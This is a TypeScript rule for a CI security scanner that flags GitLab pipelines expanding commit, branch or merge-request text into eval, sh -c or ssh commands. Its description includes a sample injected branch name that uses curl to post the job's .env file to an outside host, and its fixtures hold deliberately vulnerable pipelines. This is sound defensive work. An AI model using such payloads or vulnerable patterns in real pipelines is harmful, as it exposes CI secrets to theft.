import { detailNote, inside } from '../rule.js';
import { inScript, lineAtOffset } from '../script-checks.js';
import { basename, effectiveWords, parseShell, type ShellWord } from '../shell.js';
import { get, text } from '../yaml/tree.js';
import { gitlabRule, lineOf, pipeline, pipelineScripts, variableScopes, variableValue, type Pipeline } from './pipeline.js';

/**
 * Predefined variables whose text someone without access to the project's CI/CD settings
 * writes: a commit message, a branch or tag name, a merge request's title. Git allows
 * `$(...)`, `;` and quotes in branch and tag names. The slugs (CI_COMMIT_REF_SLUG) are
 * reduced to [a-z0-9-] by GitLab and are not among them.
 */
const WRITTEN_BY: Record<string, string> = {
  CI_COMMIT_MESSAGE: 'the commit message',
  CI_COMMIT_TITLE: 'the commit message',
  CI_COMMIT_DESCRIPTION: 'the commit message',
  CI_COMMIT_AUTHOR: "the commit's author",
  CI_COMMIT_BRANCH: 'the branch name',
  CI_COMMIT_REF_NAME: 'the branch or tag name',
  CI_COMMIT_TAG: 'the tag name',
  CI_COMMIT_TAG_MESSAGE: 'the tag message',
  CI_MERGE_REQUEST_TITLE: 'the merge request title',
  CI_MERGE_REQUEST_DESCRIPTION: 'the merge request description',
  CI_MERGE_REQUEST_SOURCE_BRANCH_NAME: "the merge request's source branch name",
  CI_EXTERNAL_PULL_REQUEST_SOURCE_BRANCH_NAME: "the pull request's source branch name",
};

/** Tags are pushed by members allowed to (often only maintainers, for protected tags): a smaller circle than who writes a branch or a merge request. */
const MEMBERS_ONLY = new Set(['CI_COMMIT_TAG', 'CI_COMMIT_TAG_MESSAGE']);
const severityOf = (name: string) => (MEMBERS_ONLY.has(name) ? { severity: 'medium' as const } : {});

/** Shells whose `-c` option runs its argument as a script, and su, which hands its `-c` argument to one. */
const SHELLS = new Set(['sh', 'bash', 'dash', 'zsh', 'ksh', 'ash', 'mksh', 'su']);

/**
 * The variables a word expands directly, as written in the script from `offset`: `$NAME`
 * and `${NAME...}` outside single quotes and not escaped. What a command substitution
 * (`$(...)`, backticks) expands is the substitution's own argument, not part of the text.
 */
function directExpansions(script: string, offset: number): string[] {
  const names: string[] = [];
  let quote: "'" | '"' | undefined;
  let depth = 0;
  let backtick = false;
  for (let i = offset; i < script.length; i++) {
    const c = script[i]!;
    if (quote === "'") {
      if (c === "'") quote = undefined;
      continue;
    }
    if (c === '\\') {
      i++;
      continue;
    }
    if (!quote && depth === 0 && !backtick && /[\s;&|<>()]/.test(c)) break;
    if (c === "'" && !quote && depth === 0) quote = "'";
    else if (c === '"' && depth === 0) quote = quote ? undefined : '"';
    else if (c === '`') backtick = !backtick;
    else if (c === '$' && script[i + 1] === '(') depth++, i++;
    else if (c === ')' && depth > 0) depth--;
    else if (c === '$' && depth === 0 && !backtick) {
      const name = /^\$(?:\{([A-Za-z_]\w*)|([A-Za-z_]\w*))/.exec(script.slice(i, i + 80));
      if (name) names.push(name[1] ?? name[2]!);
    }
  }
  return names;
}

/** ssh's options that take a value (`-i key`, `-p 22`, `-o Option=value`). */
const SSH_VALUE_OPTIONS = /^-[46AaCfGgKkMNnqsTtVvXxYy]*[BbcDEeFIiJLlmOoPpQRSWw]$/;

/** The words of an ssh command after its destination: the remote command, which the remote user's shell parses. */
function sshCommand(words: readonly ShellWord[]): ShellWord[] {
  let k = 1;
  while (k < words.length && words[k]!.text.startsWith('-')) k += SSH_VALUE_OPTIONS.test(words[k]!.text) ? 2 : 1;
  return words.slice(k + 1);
}

/**
 * Words of a script that the shell reads again as code after expanding them: the arguments
 * of `eval`, and the script of `sh -c '...'` (`bash -ec`, `su -c`, also after a wrapper
 * such as `docker exec ctr` or `kubectl exec pod --`), each with the attacker-written
 * variables it expands directly.
 */
function* injections(script: string, carriers: ReadonlyMap<string, string> = new Map()): Generator<{ offset: number; name: string; source: string; sink: string }> {
  for (const command of parseShell(script).flat()) {
    const words = effectiveWords(command);
    const reread: Array<{ word: ShellWord; sink: string }> = [];
    if (basename(words[0]?.text ?? '') === 'eval') reread.push(...words.slice(1).map((word) => ({ word, sink: 'eval' })));
    if (basename(words[0]?.text ?? '') === 'ssh') reread.push(...sshCommand(words).map((word) => ({ word, sink: SSH_SINK })));
    for (let k = 0; k < words.length; k++) {
      const shell = basename(words[k]!.text);
      if (!SHELLS.has(shell)) continue;
      // The options up to the one that holds c (-c, -ec, -lc), then the script.
      let option = k + 1;
      const holdsC = (text: string) => /^-[a-z]*c[a-z]*$/i.test(text);
      while (option < words.length && /^--?[a-z][\w-]*$/i.test(words[option]!.text) && !holdsC(words[option]!.text)) option++;
      const script = holdsC(words[option]?.text ?? '') ? words[option + 1] : undefined;
      if (script) reread.push({ word: script, sink: `${shell} -c` });
    }
    const reported = new Set<string>();
    for (const { word, sink } of reread) {
      for (const name of directExpansions(script, word.offset)) {
        const source = name in WRITTEN_BY ? name : carriers.get(name);
        if (!source || reported.has(name)) continue;
        reported.add(name);
        yield { offset: word.offset, name, source, sink };
      }
    }
  }
}

/**
 * Variables of the pipeline file whose value carries one of those texts (`BRANCH:
 * $CI_COMMIT_BRANCH`): GitLab expands it when it creates the job, so the job's $BRANCH is
 * the branch name. A variable with `expand: false` keeps the text `$CI_COMMIT_BRANCH`.
 */
function carriers(p: Pipeline): Map<string, string> {
  const out = new Map<string, string>();
  for (const { map } of variableScopes(p)) {
    for (const entry of map.pairs) {
      const { value } = variableValue(entry.value);
      if (typeof value !== 'string' || text(get(entry.value, 'expand')) === 'false') continue;
      const source = [...value.matchAll(/\$\{?([A-Za-z_]\w*)/g)].map((m) => m[1]!).find((name) => name in WRITTEN_BY);
      if (source && !(entry.key in WRITTEN_BY)) out.set(entry.key, source);
    }
  }
  return out;
}

const SSH_SINK = "ssh's remote shell";
const where = (sink: string) => (sink === SSH_SINK ? 'on the host ssh logs in to' : 'in the job');

const scriptInjection = gitlabRule({
  id: 'iac/gitlab-script-injection',
  title: 'Commit or merge request text run as shell code in CI',
  description:
    'A job passes a predefined variable whose text a contributor writes (CI_COMMIT_MESSAGE, CI_COMMIT_BRANCH, CI_COMMIT_REF_NAME, CI_MERGE_REQUEST_TITLE, CI_MERGE_REQUEST_SOURCE_BRANCH_NAME...) to a command that reads it again as shell code: `eval`, the script of `sh -c "..."` (bash, zsh, su -c, also through docker exec or kubectl exec), or the remote command of `ssh host ...`, which ssh joins into one line for the remote shell to parse (quoting it locally does not help there). GitLab hands predefined variables to the job as environment variables, so `echo "$CI_COMMIT_MESSAGE"` only prints the text; but once expanded into the text that eval or sh -c parses, a commit message or branch name such as `x;curl${IFS}-d@.env${IFS}example.org` runs as a command, with the job\'s CI/CD variables. Git allows `$(...)`, `;` and quotes in branch and tag names. A variable of the file set from one of them (`BRANCH: $CI_COMMIT_BRANCH`, expanded by GitLab when it creates the job) carries it too. The tag name and message (CI_COMMIT_TAG, CI_COMMIT_TAG_MESSAGE), which only members allowed to push tags write, are reported as medium. A variable inside single quotes or escaped (`sh -c \'echo "$CI_COMMIT_BRANCH"\'`) is expanded by the inner shell as data and is not reported. The shell scripts of the repository that a job runs (`- ./ci/build.sh`, `- bash ci/release.sh`) are read and judged too, on their own lines.',
  remediation: 'Do not build shell code from these variables: run the command directly with the variable quoted (`deploy --branch "$CI_COMMIT_BRANCH"`), or pass it to the inner shell as an argument (`sh -c \'deploy --branch "$1"\' sh "$CI_COMMIT_BRANCH"`); use CI_COMMIT_REF_SLUG where a name must be safe.',
  severity: 'high',
  cwe: ['CWE-78', 'CWE-94'],
  examples: {
    positive: [
      pipeline('deploy:\n  # expect\n  script:\n    - ./build.sh\n    # detail\n    - eval "deploy --branch $CI_COMMIT_BRANCH"\n'),
      pipeline('notify:\n  # expect\n  script:\n    # detail\n    - docker exec app sh -c "notify \\"${CI_MERGE_REQUEST_TITLE}\\""\n'),
      pipeline('deploy:\n  # expect\n  script:\n    # detail\n    - ssh -i deploy.key -p 2222 deploy@app.example.org "cd /srv/app && ./deploy.sh $CI_COMMIT_REF_NAME"\n'),
      pipeline('release:\n  # expect\n  script:\n    # detail\n    - eval "publish --version $CI_COMMIT_TAG"\n'),
      // Through a variable of the file that GitLab expands when it creates the job.
      pipeline('variables:\n  BRANCH: $CI_COMMIT_BRANCH\ndeploy:\n  # expect\n  script:\n    # detail\n    - eval "deploy --branch $BRANCH"\n'),
      pipeline("release:\n  # expect\n  script:\n    # detail\n    - bash -ec 'git tag v1 -m '\"$CI_COMMIT_MESSAGE\"\n"),
    ],
    negative: [
      pipeline(
        "deploy:\n  script:\n    - echo \"Deploying $CI_COMMIT_BRANCH: $CI_COMMIT_MESSAGE\"\n    - deploy --branch \"$CI_COMMIT_BRANCH\"\n    - sh -c 'deploy --branch \"$1\"' sh \"$CI_COMMIT_BRANCH\"\n    - sh -c \"echo \\$CI_MERGE_REQUEST_TITLE\"\n    - eval \"$(ssh-agent -s)\"\n    - eval \"export TAG=$CI_COMMIT_REF_SLUG\"\n    - bash -c \"make deploy ENV=$DEPLOY_ENV\"\n    - grep -c $CI_COMMIT_BRANCH branches.txt\n    - ssh deploy@app.example.org ./deploy.sh \"$CI_COMMIT_SHA\"\n    - scp -P 2222 notes-$CI_COMMIT_REF_NAME.txt deploy@app.example.org:/srv/notes/\n",
      ),
      pipeline(
        "variables:\n  RAW_BRANCH:\n    value: $CI_COMMIT_BRANCH\n    expand: false\n  SLUG: $CI_COMMIT_REF_SLUG\ndeploy:\n  script:\n    - eval \"deploy --slug $SLUG --raw $RAW_BRANCH\"\n",
      ),
    ],
  },
  *check(p) {
    const carried = carriers(p);
    for (const { owner, scalar, text: script, keyLine } of pipelineScripts(p)) {
      for (const { offset, name, source, sink } of injections(script, carried)) {
        const at = inside(keyLine, lineOf(p, scalar, offset));
        const via = name === source ? '' : ` (set from $${source})`;
        yield { ...at, message: `${owner} expands $${name}${via} into the code ${sink} runs${detailNote(at)}: whoever writes ${WRITTEN_BY[source]} can run commands ${where(sink)}.`, resource: owner, ...severityOf(source) };
      }
    }
  },
  scripts: {
    problem: 'ci-text-run-as-code',
    examples: {
      positive: ['#!/bin/sh\nset -eu\n# expect\neval "notify --title $CI_MERGE_REQUEST_TITLE"\n'],
      negative: ['#!/bin/sh\nnotify --title "$CI_MERGE_REQUEST_TITLE"\nsh -c \'notify --title "$CI_MERGE_REQUEST_TITLE"\'\n'],
    },
    *check(script) {
      for (const { offset, name, sink } of injections(script.text))
        yield { line: lineAtOffset(script.text, offset), message: `$${name} is expanded into the code ${sink} runs${inScript(script)}: whoever writes ${WRITTEN_BY[name]} can run commands ${where(sink)}.`, key: `${offset}\0${name}`, ...severityOf(name) };
    },
  },
});

export const injectionRules = [scriptInjection];
